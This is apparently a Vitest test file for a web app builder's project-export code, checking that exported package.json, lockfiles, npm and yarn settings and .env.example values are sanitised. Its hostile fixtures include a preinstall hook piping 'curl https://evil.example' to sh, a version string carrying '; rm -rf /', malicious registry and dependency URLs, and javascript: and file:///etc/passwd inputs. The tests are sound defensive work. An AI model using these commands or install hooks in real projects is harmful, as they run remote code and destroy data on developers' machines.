import { describe, expect, it } from 'vitest';
import { ALLOWED_PACKAGES } from './allowed-packages';
import { buildTooling, controlsInstall, exportEnvExample, exportPackageJson, exportProjectFiles } from './export-project';
import { starterFiles } from './starter-files';

describe('exportPackageJson', () => {
  it('lists the imported allowed packages at their versions, with the tooling and scripts of the template', () => {
    const manifest = JSON.parse(exportPackageJson('{"name":"x","version":"1.2.3"}', ['zod', 'react', 'react', 'left-pad'], 'Todo App!'));
    expect(manifest).toMatchObject({
      name: 'todo-app',
      version: '1.2.3',
      private: true,
      type: 'module',
      scripts: { build: 'vite build', dev: 'vite' },
      dependencies: { react: ALLOWED_PACKAGES.react, zod: ALLOWED_PACKAGES.zod },
    });
    expect(Object.keys(manifest.dependencies)).toEqual(['react', 'zod']);
    expect(manifest.devDependencies).toEqual(buildTooling());
    expect(Object.keys(buildTooling())).toEqual(expect.arrayContaining(['vite', '@vitejs/plugin-react', '@tailwindcss/vite', 'tailwindcss']));
  });

  it('exports nothing of the project’s own manifest that npm would run or fetch', () => {
    const hostile = {
      name: 'x',
      version: '1.0.0; rm -rf /',
      scripts: { preinstall: 'curl https://evil.example | sh', lint: 'eslint .' },
      optionalDependencies: { helper: 'https://evil.example/helper.tgz' },
      overrides: { react: 'npm:evil-react@1.0.0' },
      dependencies: { react: 'github:evil/react' },
    };
    const manifest = JSON.parse(exportPackageJson(JSON.stringify(hostile), ['react'], 'app'));
    const template = JSON.parse(starterFiles().find((f) => f.name === 'package.json')!.content);
    expect(Object.keys(manifest).sort()).toEqual(Object.keys(template).sort());
    expect(manifest.scripts).toEqual(template.scripts);
    expect(manifest.dependencies).toEqual({ react: ALLOWED_PACKAGES.react });
    expect(manifest.version).toBe('0.0.0');
    expect(JSON.stringify(manifest)).not.toContain('evil');
  });

  it('replaces a broken package.json rather than exporting it', () => {
    expect(JSON.parse(exportPackageJson('{ nope', [], '')).name).toBe('sprout-app');
    expect(JSON.parse(exportPackageJson('[1,2]', [], 'x')).name).toBe('x');
  });
});

describe('exportProjectFiles', () => {
  it('keeps the project’s files and restores missing tooling from the template', () => {
    const out = exportProjectFiles([{ name: 'client/src/main.tsx', content: 'custom' }], ['react'], 'app');
    expect(out.map((f) => f.name)).toEqual([
      '.env.example',
      'client/index.html',
      'client/src/main.tsx',
      'package.json',
      'README.md',
      'tsconfig.json',
      'vite.config.ts',
    ]);
    expect(out.find((f) => f.name === 'client/src/main.tsx')!.content).toBe('custom');
    const template = starterFiles();
    expect(out.find((f) => f.name === 'vite.config.ts')!.content).toBe(template.find((f) => f.name === 'vite.config.ts')!.content);
  });
});

describe('what steers npm install', () => {
  it('leaves the project’s lockfiles, npm and yarn settings and build hooks out, at any depth', () => {
    const files = [
      { name: 'client/src/App.tsx', content: 'export default () => null;' },
      { name: 'package-lock.json', content: '{"packages":{"node_modules/x":{"resolved":"http://127.0.0.1:9/evil.tgz"}}}' },
      { name: 'npm-shrinkwrap.json', content: '{}' },
      { name: '.npmrc', content: 'registry=http://127.0.0.1:9/\nscript-shell=/tmp/evil.sh\n' },
      { name: 'client/.npmrc', content: 'registry=http://127.0.0.1:9/\n' },
      { name: '.yarnrc.yml', content: 'plugins: [.yarn/plugins/evil.cjs]' },
      { name: '.yarn/plugins/evil.cjs', content: 'require("child_process")' },
      { name: 'binding.gyp', content: "{'targets':[]}" },
      { name: 'Package-Lock.json', content: '{}' },
      { name: 'yarn.lock', content: '' },
      { name: '.pnpmfile.cjs', content: '' },
      { name: 'docs/package-lock-notes.md', content: 'kept: not a lockfile' },
    ];
    const names = exportProjectFiles(files, [], 'x').map((f) => f.name);
    expect(names).toContain('client/src/App.tsx');
    expect(names).toContain('docs/package-lock-notes.md');
    for (const name of names) expect(controlsInstall(name), name).toBe(false);
    expect(names.filter((n) => /lock|npmrc|yarn|gyp|pnpm/i.test(n))).toEqual(['docs/package-lock-notes.md']);
  });
});

describe('the app backend in an export', () => {
  const envOf = (out: { name: string; content: string }[]) => out.find((f) => f.name === '.env.example')!.content;

  it('documents SPROUT_BACKEND_URL, filled in with the published app’s origin when the export knows it', () => {
    expect(envOf(exportProjectFiles([], [], 'app'))).toMatch(/^SPROUT_BACKEND_URL=https:\/\/your-app\.example$/m);
    const known = envOf(exportProjectFiles([], [], 'app', { backendUrl: 'https://my-todo.sites.example/some/page?x=1' }));
    expect(known).toMatch(/^SPROUT_BACKEND_URL=https:\/\/my-todo\.sites\.example$/m);
    expect(known).toContain("the published app's address; its backend serves this export's data");
    // Every line but the variable is a comment, so a copied .env sets exactly one thing.
    expect(known.split('\n').filter((l) => l && !l.startsWith('#'))).toEqual(['SPROUT_BACKEND_URL=https://my-todo.sites.example']);
  });

  it('writes only an http(s) origin, never text that could add lines or other schemes', () => {
    for (const hostile of ['javascript:alert(1)', 'https://a.example\nEVIL=1', 'not a url', 'file:///etc/passwd']) {
      const env = exportEnvExample(hostile);
      expect(
        env.split('\n').filter((l) => l && !l.startsWith('#')),
        hostile,
      ).toHaveLength(1);
      expect(env, hostile).not.toContain('EVIL');
    }
    expect(exportEnvExample('http://localhost:3001/x')).toContain('SPROUT_BACKEND_URL=http://localhost:3001\n');
  });

  it('keeps the project’s own .env.example, adding the variable only when it is missing', () => {
    const own = exportProjectFiles([{ name: '.env.example', content: 'VITE_TITLE=Todos\n' }], [], 'app');
    expect(envOf(own)).toMatch(/^VITE_TITLE=Todos\n\n#/);
    expect(envOf(own)).toContain('SPROUT_BACKEND_URL=');
    const named = 'SPROUT_BACKEND_URL=https://mine.example\n';
    expect(envOf(exportProjectFiles([{ name: '.env.example', content: named }], [], 'app'))).toBe(named);
  });

  it('upgrades a vite.config.ts the project never changed to the template’s, and keeps an edited one', () => {
    const current = starterFiles().find((f) => f.name === 'vite.config.ts')!.content;
    expect(current).toContain("'/_sprout'");
    const earlier = [
      "import { fileURLToPath, URL } from 'node:url';",
      "import { defineConfig } from 'vite';",
      "import react from '@vitejs/plugin-react';",
      "import tailwindcss from '@tailwindcss/vite';",
      '',
      'export default defineConfig({',
      "  root: 'client',",
      '  plugins: [react(), tailwindcss()],',
      "  resolve: { alias: { '@': fileURLToPath(new URL('./client/src', import.meta.url)) } },",
      "  build: { outDir: '../dist', emptyOutDir: true },",
      '});',
      '',
    ].join('\n');
    const upgraded = exportProjectFiles([{ name: 'vite.config.ts', content: earlier }], [], 'app');
    expect(upgraded.find((f) => f.name === 'vite.config.ts')!.content).toBe(current);
    const edited = `${earlier}// mine\n`;
    expect(exportProjectFiles([{ name: 'vite.config.ts', content: edited }], [], 'app').find((f) => f.name === 'vite.config.ts')!.content).toBe(edited);
  });
});
